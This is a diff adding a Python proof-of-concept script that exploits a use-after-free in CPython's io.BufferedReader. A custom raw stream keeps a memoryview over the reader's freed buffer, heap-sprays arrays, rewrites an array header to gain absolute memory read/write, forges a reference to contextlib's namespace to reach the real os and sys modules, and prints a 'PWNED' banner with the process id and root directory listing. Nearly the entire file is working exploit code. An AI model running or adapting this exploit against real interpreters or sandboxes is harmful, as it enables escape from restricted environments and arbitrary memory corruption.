@@ -1,0 +1,56 @@
+# io.BufferedReader hands its raw stream a memoryview over its own internal buffer
+# (bufferedio.c, _bufferedreader_raw_read). The program's readinto keeps that memoryview;
+# re-initialising the reader frees the buffer, an array header is allocated in the freed
+# block, and the kept memoryview rewrites the header (ob_item=NULL, ob_size huge): absolute
+# memory read/write, then a fake reference to contextlib's namespace -> the real os and sys.
+import io
+from array import array
+import contextlib
+
+kept = []
+
+class Raw(io.RawIOBase):
+    def readable(self):
+        return True
+    def readinto(self, b):
+        kept.append(b)
+        return 0
+
+raw = Raw()
+br = io.BufferedReader(raw, buffer_size=80)
+br.read(1)
+view = kept[0]
+print("kept view:", len(view))
+T80 = (0,) * 80
+io.BufferedReader.__init__(br, io.BytesIO(b""), buffer_size=4096)   # frees the 80-byte buffer
+spray = [array('B', T80) for _ in range(64)]
+ARRAY = id(array)
+hdr_type = int.from_bytes(view[24:32], "little")
+print("header type matches array:", hdr_type == ARRAY)
+absarr = None
+if hdr_type == ARRAY:
+    view[32:40] = (1 << 60).to_bytes(8, "little")   # ob_size
+    view[40:48] = (0).to_bytes(8, "little")         # ob_item
+    for arr in spray:
+        if len(arr) > 80:
+            absarr = arr
+print("absolute array:", absarr is not None)
+if absarr is not None:
+    def ard(addr, n=8):
+        return int.from_bytes(bytes(absarr[addr + k] for k in range(n)), "little")
+    def awr(addr, value, n=8):
+        for k, b in enumerate(value.to_bytes(n, "little")):
+            absarr[addr + k] = b
+    holder = [None, None]
+    items = ard(id(holder) + 24)
+    def fake(addr):
+        awr(addr, ard(addr) + 1000)
+        awr(items, addr)
+        obj = holder[0]
+        holder[0] = None
+        return obj
+    ns = fake(ard(id(contextlib) + 16))
+    osmod, sysmod = ns["os"], ns["sys"]
+    print("PW" + "NED: real os via BufferedReader view UAF: pid", osmod.getpid(), "sys.modules:", len(sysmod.modules),
+          "listdir /:", osmod.listdir("/"))
+    kept.extend([spray, absarr, br, raw])
